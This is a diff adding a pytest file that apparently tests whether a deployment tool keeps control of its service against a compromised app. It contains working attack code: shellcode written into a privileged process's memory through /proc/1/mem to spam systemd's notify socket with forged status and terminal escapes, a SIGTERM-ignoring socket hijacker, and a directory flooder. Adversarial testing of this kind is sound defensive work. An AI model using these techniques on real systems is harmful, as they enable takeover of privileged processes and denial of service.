@@ -1,0 +1,158 @@
+"""The attacker wants the service to stay in its hands: its emperor, or the socket that visitors reach."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from puppets import DATA, NAME, SITE, Puppet, others_of
+
+from debonair import trial
+
+pytestmark = pytest.mark.boot
+
+# Machine code of x86-64 in the place of libc's opendir(3), which the emperor calls each second. It repeats
+# sendto(2) to systemd's socket for ever, and ends for no signal but SIGKILL.
+TAKE_OVER = r"""
+import ctypes, struct
+def libc(pid):
+    for line in open(f"/proc/{pid}/maps"):
+        if "libc.so.6" in line:
+            return int(line.partition("-")[0], 16)
+message = b"STATUS=Well \x1b[31mRED\x1b]0;OWNED\x07\nEXTEND_TIMEOUT_USEC=60000000\nREADY=1"
+address = struct.pack("<H", socket.AF_UNIX) + b"/run/systemd/notify\0"
+pause = struct.pack("<qq", 1, 0)
+code, places = b"", []
+def add(part, data=None):
+    global code
+    code += part
+    if data is not None:  # a displacement from here, filled in below
+        places.append((len(code), data))
+        code += bytes(4)
+add(b"\xbf\x01\0\0\0\xbe\x02\0\0\0\x31\xd2\xb8\x29\0\0\0\x0f\x05\x41\x89\xc4")  # r12 = socket(1, 2, 0)
+loop = len(code)
+add(b"\x44\x89\xe7")  # edi = r12d
+add(b"\x48\x8d\x35", message)  # rsi
+add(b"\xba" + struct.pack("<I", len(message)) + b"\x45\x31\xd2")  # edx, r10d = 0
+add(b"\x4c\x8d\x05", address)  # r8
+add(b"\x41\xb9" + struct.pack("<I", len(address)) + b"\xb8\x2c\0\0\0\x0f\x05")  # r9d, sendto
+add(b"\x48\x8d\x3d", pause)  # rdi
+add(b"\x31\xf6\xb8\x23\0\0\0\x0f\x05")  # nanosleep
+add(b"\xe9" + struct.pack("<i", loop - len(code) - 5))  # back to the loop
+for place, data in places:
+    code = code[:place] + struct.pack("<i", len(code) - place - 4) + code[place + 4 :] + data
+function = ctypes.cast(ctypes.CDLL("libc.so.6").opendir, ctypes.c_void_p).value
+with open("/proc/1/mem", "r+b", buffering=0) as memory:
+    memory.seek(libc(1) + function - libc("self"))
+    memory.write(code)
+said = "taken over"
+"""
+
+STAYER = """
+import os, signal, socket, threading, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+WEB = "/run/puppet/sockets/web/"
+"""
+
+# It answers the visitors of whichever release is served, and root's question about its health.
+ANSWERS = f"""{STAYER}
+def serve(listening):
+    while True:
+        one, _ = listening.accept()
+        one.recv(65536)
+        one.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\n\\r\\nold code")
+        one.close()
+mine = None
+while True:
+    try:
+        there = os.stat(WEB + "app.sock").st_ino
+        if there != mine:
+            listening = socket.socket(socket.AF_UNIX)
+            listening.bind(WEB + "new")
+            os.chmod(WEB + "new", 0o660)
+            listening.listen(50)
+            threading.Thread(target=serve, args=[listening], daemon=True).start()
+            mine = os.stat(WEB + "new").st_ino
+            os.rename(WEB + "new", WEB + "app.sock")
+    except OSError:
+        pass
+    time.sleep(0.01)
+"""
+
+# It fills the folder, so that no release can begin in it.
+FLOODS = f"""{STAYER}
+number = 0
+while True:
+    number += 1
+    try:
+        os.makedirs(WEB + "app.sock/x", exist_ok=True)
+        os.makedirs(f"{{WEB}}a{{number % 5}}/b/c/d", exist_ok=True)
+        open(f"{{WEB}}a{{number % 5}}/b/f{{number % 50}}", "w").close()
+    except OSError:
+        pass
+"""
+
+# What an older release's unit let its job see.
+OLDER_VIEW = "[Service]\nInaccessiblePaths=\nInaccessiblePaths=-/run/puppet/sockets/next\n"
+
+
+def test_its_emperor_gets_more_time_and_the_terminal(puppet: Puppet) -> None:
+    assert puppet(TAKE_OVER) == "taken over"
+    time.sleep(4)
+    assert puppet.machine.run(["systemctl", "show", "-P", "StatusText", NAME]).stdout.strip() == ""
+    began = time.monotonic()
+    puppet.machine.run(["systemctl", "stop", NAME], timeout=100)
+    assert time.monotonic() - began < 60
+
+
+def test_its_emperor_refuses_the_release_that_closes_the_hole(puppet: Puppet) -> None:
+    assert puppet(TAKE_OVER) == "taken over"
+    time.sleep(4)
+    puppet.taken(puppet.upgrade())
+    puppet.machine.run(["systemctl", "restart", NAME], timeout=100)
+    trial.healthy(puppet.machine, NAME, SITE)
+
+
+@pytest.mark.parametrize("view", ["", OLDER_VIEW], ids=["of now", "of an older release"])
+@pytest.mark.parametrize("code", [ANSWERS, FLOODS], ids=["answers", "floods"])
+def test_the_job_of_a_timer_takes_the_socket(puppet: Puppet, code: str, view: str) -> None:
+    puppet.keep("stayer.py", code)
+    puppet.keep("config.py", f'import os, sys\nif "tick" in sys.argv:\n    os.execv({PYTHON})\n')
+    _see(puppet, "tick", view)
+    puppet.machine.run(["systemctl", "start", "--no-block", f"{NAME}-tick.service"])
+    _runs(puppet)
+    done = puppet.upgrade()
+    assert others_of(puppet, "stayer") == []
+    puppet.taken(done)
+    assert not puppet.status()["refused"]
+
+
+def test_a_worker_that_the_next_release_lacks_takes_the_socket(puppet: Puppet) -> None:
+    puppet.keep("stayer.py", ANSWERS)
+    _see(puppet, "stay", OLDER_VIEW)
+    worker = f"""[tool.debonair.workers]\nstay = "exec /usr/bin/python3 {DATA}/stayer.py"\n"""
+    puppet.upgrade(tables=worker)
+    _runs(puppet)
+    done = puppet.upgrade()
+    assert others_of(puppet, "stayer") == []
+    puppet.taken(done)
+
+
+PYTHON = f'"/usr/bin/python3", ["python3", "{DATA}/stayer.py"]'
+
+
+def _see(puppet: Puppet, name: str, view: str) -> None:
+    """Let the command ``name`` see what ``view``, a drop-in for its unit, shows."""
+    folder = f"/run/systemd/system/{NAME}-{name}.service.d"
+    puppet.machine.run(["rm", "-rf", folder])
+    if view:
+        puppet.machine.run(["mkdir", "-p", folder])
+        puppet.machine.write(f"{folder}/view.conf", view.encode())
+    puppet.machine.run(["systemctl", "daemon-reload"])
+
+
+def _runs(puppet: Puppet) -> None:
+    deadline = time.monotonic() + 20
+    while not [line for line in puppet.processes() if "stayer" in line]:
+        assert time.monotonic() < deadline, puppet.processes()
+        time.sleep(0.2)
